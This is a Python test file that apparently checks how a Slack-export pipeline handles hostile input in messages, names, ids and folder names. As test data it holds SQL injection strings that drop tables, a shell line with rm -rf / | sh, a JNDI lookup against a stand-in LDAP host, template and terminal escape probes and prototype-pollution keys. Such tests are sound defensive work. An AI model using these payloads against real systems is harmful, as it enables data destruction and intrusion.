"""Class: words that would mean something to a database, a shell, a template or a log."""

from mm_pipeline_tests.end_to_end.small_export import person
from mm_pipeline_tests.hostile.case import Case, Fate, HostileClass
from mm_pipeline_tests.hostile.road import Run, export, message, messages

_DROP = "'; DROP TABLE entities; --"


def _text(text: str) -> Run:
    return messages(message(text))


CLASS = HostileClass(
    "SQL and other languages",
    "Words that mean something to PostgreSQL, a shell, a template, a log or JSON.",
    (
        Case("a text that drops the table", Fate.KEPT, "ada: '; DROP TABLE entities; --", _text(_DROP)),
        Case("a text that ends the COPY", Fate.KEPT, "ada: \\\\.\nSELECT 1;", _text("\\.\nSELECT 1;")),
        Case("a text of COPY's null and tabs", Fate.KEPT, "ada: \\N\t\\N\t\\N", _text("\\N\t\\N\t\\N")),
        Case(
            "a text of parameters",
            Fate.KEPT,
            "ada: %s %(id)s $1 :name {0} {workspace}",
            _text("%s %(id)s $1 :name {0} {workspace}"),
        ),
        Case("a text that is true everywhere", Fate.KEPT, "ada: x' OR '1'='1", _text("x' OR '1'='1")),
        Case(
            "a text of backslashes and quotes",
            Fate.KEPT,
            "ada: \\' \\\" \\\\\\ E'\\x41'",
            _text("\\' \\\" \\\\ E'\\x41'"),
        ),
        Case(
            "a person whose id drops the table",
            Fate.KEPT,
            "user slack-u0-drop-table-entities; slack-u0-drop-table-entities: by somebody",
            messages(message("by somebody", user=f"U0{_DROP}")),
        ),
        Case(
            "a person whose name sets statuses",
            Fate.KEPT,
            "user x-status-success-where-1-1",
            export(people=[person("U0SQL", "x', status='success' WHERE '1'='1")]),
        ),
        Case(
            "a channel whose name drops the table",
            Fate.KEPT,
            "channel drop-table-entities",
            export(channels=[{"id": "C0SQL", "name": _DROP}]),
        ),
        Case(
            "a channel whose id is a JSON path",
            Fate.KEPT,
            "channel path",
            export(channels=[{"id": '$.workspace ? (@ == "x")', "name": "path"}]),
        ),
        Case(
            "a team that drops the table",
            Fate.KEPT,
            "user team",
            export(people=[person("U0SQL", "team", team_id=_DROP)]),
        ),
        Case(
            "an emoji whose name drops the table",
            Fate.TOLD,
            "custom_emoji NAME is not in the archive: the emoji's picture is nowhere to be had: set SLACK_TOKEN to fetch it",
            export({"emoji.json": {_DROP: "https://emoji.slack-edge.com/x.png"}}),
        ),
        Case(
            "a reaction whose name drops the table",
            Fate.KEPT,
            "ada: seeds are here; ben :drop_table_entities_--:",
            messages(message(reactions=[{"name": _DROP, "users": ["U0BEN"]}])),
        ),
        Case(
            "a folder whose name drops the table",
            Fate.KEPT,
            "channel drop-table-entities; ada: from there",
            export({f"{_DROP}/1.json": [message("from there")]}),
        ),
        Case(
            "a shell's substitution",
            Fate.KEPT,
            "ada: $(touch /tmp/x) `id` ; rm -rf / | sh",
            _text("$(touch /tmp/x) `id` ; rm -rf / | sh"),
        ),
        Case(
            "a template's",
            Fate.KEPT,
            "ada: {{7\\*7}} ${7\\*7} <%= 7\\*7 %> #{7\\*7}",
            _text("{{7*7}} ${7*7} <%= 7*7 %> #{7*7}"),
        ),
        Case(
            "a logger's",
            Fate.KEPT,
            "ada: ${jndi:ldap://x.example/a} %n%n %d\n[ERROR] all is lost",
            _text("${jndi:ldap://x.example/a} %n%n %d\r\n[ERROR] all is lost"),
        ),
        Case(
            "a terminal's colours and title",
            Fate.KEPT,
            "ada: \x1b[31mred\x1b]0;title\x07 \x9b31m",
            _text("\x1b[31mred\x1b]0;title\x07 \x9b31m"),
        ),
        Case(
            "keys of JavaScript's objects",
            Fate.KEPT,
            "ada: keys",
            messages(message("keys", __proto__={"admin": True}, constructor={"x": 1})),
        ),
    ),
)
